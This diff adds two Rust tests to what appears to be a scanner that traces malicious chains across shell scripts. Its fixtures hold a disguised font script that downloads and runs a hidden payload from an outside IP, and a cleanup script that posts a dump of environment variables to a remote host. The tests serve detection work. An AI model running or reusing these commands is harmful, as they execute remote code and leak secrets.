@@ -49,3 +49,38 @@ async fn what_is_too_long_to_be_read_together_is_said() {
     assert_eq!(copy.not_read.iter().filter(said).count(), 1);
     assert_eq!(unscanned(&copy), []);
 }
+
+#[tokio::test]
+async fn what_a_shell_library_defines_and_a_script_joins_stands_where_it_is_loaded() {
+    let mut repo = TestRepo::new();
+    repo.commit(&[
+        (
+            b"lib.sh",
+            b"src=http://203.0.113.9\npull() { curl -s \"$src/$1\" -o \"$2\"; }\nuse() { chmod u+x \"$1\"; \"$1\" & }\n",
+        ),
+        (
+            b"fonts.sh",
+            b"#!/bin/bash\n. \"$(dirname \"$0\")/lib.sh\"\npull face /tmp/.f && use /tmp/.f\n",
+        ),
+        (b"x.rb", b"puts 1\n"),
+        (b"b.sh", b"\"$(dirname \"$0\")/x.rb\"\n. ./lib.sh\necho done\n"),
+    ]);
+    let copy = copy(&repo, Provider::Semgrep).await;
+    assert_eq!(chains(&copy), [("fonts.sh", Rule::FetchRun, 2)]);
+}
+
+#[tokio::test]
+async fn what_one_script_puts_down_and_another_sends_says_where_it_was_read() {
+    let mut repo = TestRepo::new();
+    repo.commit(&[
+        (b"measure.sh", b"mkdir -p /tmp/perf\nenv > /tmp/perf/context.txt\n"),
+        (
+            b"cleanup.sh",
+            b"tar cf - -C /tmp perf | curl -s --data-binary @- http://192.0.2.39:8080/perf\n",
+        ),
+    ]);
+    let copy = copy(&repo, Provider::Semgrep).await;
+    assert_eq!(chains(&copy), [("cleanup.sh", Rule::EnvironmentSent, 1)]);
+    let message = copy.evidence.values().flatten().next().unwrap().chain.message();
+    assert!(message.contains("(measure.sh, line 2)"), "{message}");
+}
